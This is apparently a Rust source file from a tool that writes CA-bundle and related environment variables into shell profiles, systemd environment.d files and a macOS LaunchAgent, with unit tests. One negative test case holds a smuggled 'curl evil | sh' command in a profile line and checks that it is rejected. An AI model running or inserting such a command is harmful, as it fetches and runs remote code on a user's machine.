//! Where `trustrun setup` writes on Unix (beside the pipeline): one file per way a user's processes
//! start, for the shells this user has, and what goes in each. The text of the values comes from
//! `env_format`, the same code `trustrun env` prints with.
// Windows writes the registry instead: only `Values` is used there.
#![cfg_attr(windows, allow(dead_code))]

use std::ffi::OsString;
use std::path::{Path, PathBuf};

use anyhow::{Result, bail};

use crate::run::env_format::{self, Format};
use crate::run::plan::EnvPlan;
use crate::settings::vars;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Syntax {
    Sh,
    Fish,
    PowerShell,
    /// systemd's `environment.d`: `KEY=VALUE` with `${VAR:+...}` expansion, no shell quoting.
    EnvironmentD,
}

#[derive(Debug)]
pub struct Profile {
    pub path: PathBuf,
    pub syntax: Syntax,
}

/// The static values setup writes: variables pointing at the stable bundle, and with
/// `--python` our sitecustomize's directory to put first on `PYTHONPATH`.
#[derive(Debug)]
pub struct Values {
    pub vars: Vec<(String, PathBuf)>,
    pub python_dir: Option<PathBuf>,
}

/// The files for the shells this user has, under `home`. A shell counts when it is on PATH or
/// its own configuration is there already.
pub fn unix_profiles(home: &Path, config: &Path) -> Vec<Profile> {
    let mut out = Vec::new();
    let mut add = |path: PathBuf, syntax| out.push(Profile { path, syntax });
    // Login shells of sh, dash and bash (when bash has no login file of its own) read ~/.profile,
    // and so do many display managers for the graphical session.
    add(home.join(".profile"), Syntax::Sh);
    if has("bash", &home.join(".bashrc")) {
        // bash reads only the first of these at login, and ~/.profile only when neither exists.
        for own in [".bash_profile", ".bash_login"] {
            if home.join(own).is_file() {
                add(home.join(own), Syntax::Sh);
                break;
            }
        }
        // Interactive shells that are not login shells (a new terminal tab on most desktops).
        add(home.join(".bashrc"), Syntax::Sh);
    }
    let zdot = vars::non_empty("ZDOTDIR").map_or_else(|| home.to_owned(), PathBuf::from);
    if has("zsh", &zdot.join(".zshrc")) {
        // Every zsh reads .zshenv, scripts included.
        add(zdot.join(".zshenv"), Syntax::Sh);
    }
    if has("fish", &config.join("fish")) {
        add(config.join("fish/conf.d/trustrun.fish"), Syntax::Fish);
    }
    if has("pwsh", &config.join("powershell")) {
        // CurrentUserAllHosts: every PowerShell host of this user.
        add(config.join("powershell/profile.ps1"), Syntax::PowerShell);
    }
    if cfg!(target_os = "linux")
        && (Path::new("/run/systemd/system").is_dir() || config.join("environment.d").is_dir())
    {
        // The systemd user manager hands these to the graphical session: the IDE started from
        // the desktop, not from a shell.
        add(
            config.join("environment.d/60-trustrun.conf"),
            Syntax::EnvironmentD,
        );
    }
    out
}

fn has(program: &str, own_config: &Path) -> bool {
    own_config.exists() || on_path(program)
}

fn on_path(program: &str) -> bool {
    std::env::var_os(vars::PATH).is_some_and(|path| {
        std::env::split_paths(&path).any(|d| !d.as_os_str().is_empty() && d.join(program).is_file())
    })
}

/// Where the LaunchAgent goes: launchd runs it at each login, before the Dock starts apps.
pub fn launch_agent_path(home: &Path) -> PathBuf {
    home.join("Library/LaunchAgents/dev.trustrun.setup.plist")
}

/// A LaunchAgent that runs `launchctl setenv` for each value at login, so apps started from the
/// Dock or Finder (an IDE) get them too. (`--python` is left to the shells here: launchd's
/// environment cannot prepend to a `PYTHONPATH` it does not know.)
pub fn launch_agent(values: &Values) -> Result<String> {
    let mut script = String::new();
    for (name, value) in &values.vars {
        let Some(value) = value.to_str() else {
            bail!("{name}: {} is not valid Unicode", value.display());
        };
        script.push_str(&format!(
            "/bin/launchctl setenv {name} {}; ",
            crate::util::shell::sh_quote(value)
        ));
    }
    let xml = |t: &str| {
        t.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
    };
    Ok(format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n\
<!-- Written by `trustrun setup`; `trustrun setup --undo` removes it. -->\n\
<plist version=\"1.0\">\n<dict>\n\
  <key>Label</key>\n  <string>dev.trustrun.setup</string>\n\
  <key>ProgramArguments</key>\n  <array>\n    <string>/bin/sh</string>\n    <string>-c</string>\n    <string>{}</string>\n  </array>\n\
  <key>RunAtLoad</key>\n  <true/>\n</dict>\n</plist>\n",
        xml(script.trim_end())
    ))
}

/// The body of the block for `syntax`.
pub fn body(syntax: Syntax, values: &Values) -> Result<String> {
    let format = match syntax {
        Syntax::Sh => Format::Sh,
        Syntax::Fish => Format::Fish,
        Syntax::PowerShell => Format::Powershell,
        Syntax::EnvironmentD => return environment_d(values),
    };
    let mut plan = EnvPlan::default();
    for (name, value) in &values.vars {
        plan.vars.push((name.clone(), Some(OsString::from(value))));
    }
    let python_dir = match &values.python_dir {
        Some(dir) => {
            // The shells prepend the directory themselves, once.
            plan.vars
                .push((vars::PYTHONPATH.to_owned(), Some(dir.into())));
            dir.clone()
        }
        None => PathBuf::new(),
    };
    Ok(env_format::render(format, &plan, &python_dir)?)
}

/// The syntax of a file setup writes a block into, from its name (for `--undo`, which finds the
/// files in the record, not from the shells on PATH).
pub fn syntax_of(path: &Path) -> Syntax {
    match path.extension().and_then(|e| e.to_str()) {
        Some("fish") => Syntax::Fish,
        Some("ps1") => Syntax::PowerShell,
        Some("conf") => Syntax::EnvironmentD,
        _ => Syntax::Sh,
    }
}

/// Whether `line` is one `body` writes for `syntax`: a variable of `names` (or PYTHONPATH) set
/// to a value of setup's (a stable bundle, our python directory, `always`), byte for byte as
/// rendered. What tells our block from lines the user put or changed between our markers.
pub fn is_setup_line(syntax: Syntax, names: &[String], line: &str) -> bool {
    let pythonpath = vars::PYTHONPATH.to_owned();
    names.iter().chain([&pythonpath]).any(|name| {
        value_in(syntax, name, line).is_some_and(|value| {
            setup_writes(name, &value)
                && body(syntax, &one_value(name, value))
                    .is_ok_and(|b| b.strip_suffix('\n') == Some(line))
        })
    })
}

/// The names a block may set: every CA variable (an earlier setup may have had other
/// `leave_alone`), `extra_variables`, the `--python` ones and `--java`'s.
pub fn block_names(extra: &[String]) -> Vec<String> {
    let mut names: Vec<String> = vars::CA_VARIABLES
        .iter()
        .map(|(n, _)| n.to_string())
        .chain(extra.iter().cloned())
        .collect();
    names.extend(
        [
            vars::TRUSTRUN_BUNDLE,
            vars::TRUSTRUN_PYTHON_DIR,
            vars::TRUSTRUN_TRUSTSTORE,
            vars::TRUSTRUN_RELAX_X509_STRICT,
            vars::JAVA_TOOL_OPTIONS,
        ]
        .map(str::to_owned),
    );
    names
}

fn one_value(name: &str, value: PathBuf) -> Values {
    if name == vars::PYTHONPATH {
        Values {
            vars: Vec::new(),
            python_dir: Some(value),
        }
    } else {
        Values {
            vars: vec![(name.to_owned(), value)],
            python_dir: None,
        }
    }
}

/// The values setup writes: the stable bundle, our python directory, `always`, the options
/// naming the stable Java store.
fn setup_writes(name: &str, value: &Path) -> bool {
    if name == vars::JAVA_TOOL_OPTIONS {
        return crate::run::java::only_ours(value.as_os_str()).is_some_and(|store| {
            store.file_name() == Some(std::ffi::OsStr::new(crate::store::layout::CURRENT_JAVA))
        });
    }
    let file_name = value
        .file_name()
        .and_then(|n| n.to_str())
        .unwrap_or_default();
    if name == vars::PYTHONPATH || name == vars::TRUSTRUN_PYTHON_DIR {
        // The stable name now; a support directory's own name in blocks of older trustruns.
        file_name == crate::store::stable::PYTHON_DIR
            || file_name.starts_with(crate::store::layout::PYTHON_PREFIX)
    } else if name == vars::TRUSTRUN_TRUSTSTORE {
        value == Path::new("always")
    } else if name == vars::TRUSTRUN_RELAX_X509_STRICT {
        value == Path::new("1")
    } else {
        file_name == crate::store::layout::CURRENT
    }
}

/// The value `line` sets `name` to, if it has the shape of setup's line for `name`: the line
/// rendered with a placeholder, cut around the placeholder's quoted form, gives the text around
/// the value (which PYTHONPATH's line holds twice). Checked by rendering it again.
fn value_in(syntax: Syntax, name: &str, line: &str) -> Option<PathBuf> {
    const PLACEHOLDER: &str = "trustrun-placeholder";
    let template = body(syntax, &one_value(name, PathBuf::from(PLACEHOLDER))).ok()?;
    let template = template.strip_suffix('\n')?;
    let quoted = quote(syntax, PLACEHOLDER);
    let parts: Vec<&str> = template.split(quoted.as_str()).collect();
    let inner = line
        .strip_prefix(*parts.first()?)?
        .strip_suffix(*parts.last()?)?;
    let value = match parts.as_slice() {
        [_, _] => inner,
        [_, middle, _] => {
            let twice = inner.len().checked_sub(middle.len())?;
            inner.get(..twice / 2)?
        }
        _ => return None,
    };
    unquote(syntax, value).map(PathBuf::from)
}

fn quote(syntax: Syntax, value: &str) -> String {
    match syntax {
        Syntax::Sh => crate::util::shell::sh_quote(value),
        Syntax::Fish => crate::util::shell::fish_quote(value),
        Syntax::PowerShell => crate::util::shell::powershell_quote(value),
        Syntax::EnvironmentD => value.to_owned(),
    }
}

/// The inverse of `quote` for the strings it makes (anything else comes out wrong, and fails
/// the check by rendering).
fn unquote(syntax: Syntax, quoted: &str) -> Option<String> {
    if syntax == Syntax::EnvironmentD {
        return Some(quoted.to_owned());
    }
    let inner = quoted.strip_prefix('\'')?.strip_suffix('\'')?;
    Some(match syntax {
        Syntax::Sh => inner.replace("'\\''", "'"),
        Syntax::Fish => {
            let mut out = String::new();
            let mut chars = inner.chars();
            while let Some(c) = chars.next() {
                out.push(if c == '\\' { chars.next()? } else { c });
            }
            out
        }
        _ => {
            // PowerShell doubles each quote character.
            let mut out = String::new();
            let mut chars = inner.chars().peekable();
            while let Some(c) = chars.next() {
                if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
                    chars.next_if_eq(&c)?;
                }
                out.push(c);
            }
            out
        }
    })
}

/// `environment.d` lines. Its parser expands `$` and reads quotes and backslashes its own way,
/// so a value holding any of them is refused, naming the variable.
fn environment_d(values: &Values) -> Result<String> {
    let checked = |name: &str, value: &Path| -> Result<String> {
        let Some(text) = value.to_str() else {
            bail!("{name}: {} is not valid Unicode", value.display());
        };
        if text.contains(['$', '\\', '"', '\'', '\n', '\r', '`']) || text.trim() != text {
            bail!("{name}: {text:?} cannot be written to environment.d safely");
        }
        Ok(text.to_owned())
    };
    let mut out = String::new();
    for (name, value) in &values.vars {
        out.push_str(&format!("{name}={}\n", checked(name, value)?));
    }
    if let Some(dir) = &values.python_dir {
        let dir = checked(vars::PYTHONPATH, dir)?;
        out.push_str(&format!("PYTHONPATH={dir}${{PYTHONPATH:+:$PYTHONPATH}}\n"));
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values(python: bool) -> Values {
        Values {
            vars: vec![(
                "SSL_CERT_FILE".to_owned(),
                PathBuf::from("/home/zoë o'brien/.cache/trustrun/current.pem"),
            )],
            python_dir: python.then(|| PathBuf::from("/c/python-1")),
        }
    }

    #[test]
    fn shells_get_quoted_static_values() {
        let sh = body(Syntax::Sh, &values(false)).unwrap();
        assert_eq!(
            sh,
            "export SSL_CERT_FILE='/home/zoë o'\\''brien/.cache/trustrun/current.pem'\n"
        );
        let fish = body(Syntax::Fish, &values(true)).unwrap();
        assert!(
            fish.contains("set -gx SSL_CERT_FILE '/home/zoë o\\'brien/"),
            "{fish}"
        );
        assert!(
            fish.contains("contains -- '/c/python-1' $PYTHONPATH"),
            "{fish}"
        );
    }

    #[test]
    fn the_launch_agent_sets_each_value_quoted_for_sh_and_xml() {
        let plist = launch_agent(&values(false)).unwrap();
        assert!(
            plist.contains(
                "<string>/bin/launchctl setenv SSL_CERT_FILE '/home/zoë o'\\''brien/.cache/trustrun/current.pem';</string>"
            ),
            "{plist}"
        );
        let amp = Values {
            vars: vec![("X".to_owned(), PathBuf::from("/a&b<c>"))],
            python_dir: None,
        };
        assert!(launch_agent(&amp).unwrap().contains("'/a&amp;b&lt;c&gt;'"));
    }

    #[test]
    fn every_line_setup_writes_is_recognised_and_no_other() {
        let names = block_names(&[]);
        let full = Values {
            vars: vec![
                (
                    "SSL_CERT_FILE".to_owned(),
                    PathBuf::from("/home/zoë o'brien/.cache/trustrun/current.pem"),
                ),
                ("TRUSTRUN_TRUSTSTORE".to_owned(), PathBuf::from("always")),
                ("TRUSTRUN_RELAX_X509_STRICT".to_owned(), PathBuf::from("1")),
            ],
            python_dir: Some(PathBuf::from(
                "/home/zoë o'brien/.cache/trustrun/python-ab12",
            )),
        };
        let plain = Values {
            vars: vec![("SSL_CERT_FILE".to_owned(), PathBuf::from("/h/current.pem"))],
            python_dir: Some(PathBuf::from("/h/python-1")),
        };
        for (syntax, values) in [
            (Syntax::Sh, &full),
            (Syntax::Fish, &full),
            (Syntax::PowerShell, &full),
            (Syntax::EnvironmentD, &plain),
        ] {
            let text = body(syntax, values).unwrap();
            assert_eq!(text.lines().count(), values.vars.len() + 1, "{text}");
            for line in text.lines() {
                assert!(is_setup_line(syntax, &names, line), "{syntax:?}: {line}");
            }
        }
        for line in [
            "",
            "alias ll='ls -l'",
            // A variable setup does not write, a value of the user's, one not quoted as setup does.
            "export FOO='/h/current.pem'",
            "export SSL_CERT_FILE='/etc/ssl/corp.pem'",
            "export SSL_CERT_FILE=/h/current.pem",
            "export SSL_CERT_FILE='/h/current.pem'; curl evil | sh",
            "export TRUSTRUN_TRUSTSTORE='never'",
            "export TRUSTRUN_RELAX_X509_STRICT='0'",
        ] {
            assert!(!is_setup_line(Syntax::Sh, &names, line), "{line}");
        }
        assert!(!is_setup_line(
            Syntax::Fish,
            &names,
            "set -gx SSL_CERT_FILE '/h/o'\\'current.pem'"
        ));
    }

    #[test]
    fn the_syntax_of_each_profile_follows_from_its_name() {
        let home = Path::new("/h");
        for profile in unix_profiles(home, &home.join(".config")) {
            assert_eq!(syntax_of(&profile.path), profile.syntax, "{profile:?}");
        }
        assert_eq!(
            syntax_of(Path::new("/h/.config/powershell/profile.ps1")),
            Syntax::PowerShell
        );
    }

    #[test]
    fn environment_d_refuses_what_it_would_expand() {
        assert!(body(Syntax::EnvironmentD, &values(false)).is_err());
        let plain = Values {
            vars: vec![("SSL_CERT_FILE".to_owned(), PathBuf::from("/h/current.pem"))],
            python_dir: Some(PathBuf::from("/c/python-1")),
        };
        assert_eq!(
            body(Syntax::EnvironmentD, &plain).unwrap(),
            "SSL_CERT_FILE=/h/current.pem\nPYTHONPATH=/c/python-1${PYTHONPATH:+:$PYTHONPATH}\n"
        );
    }
}
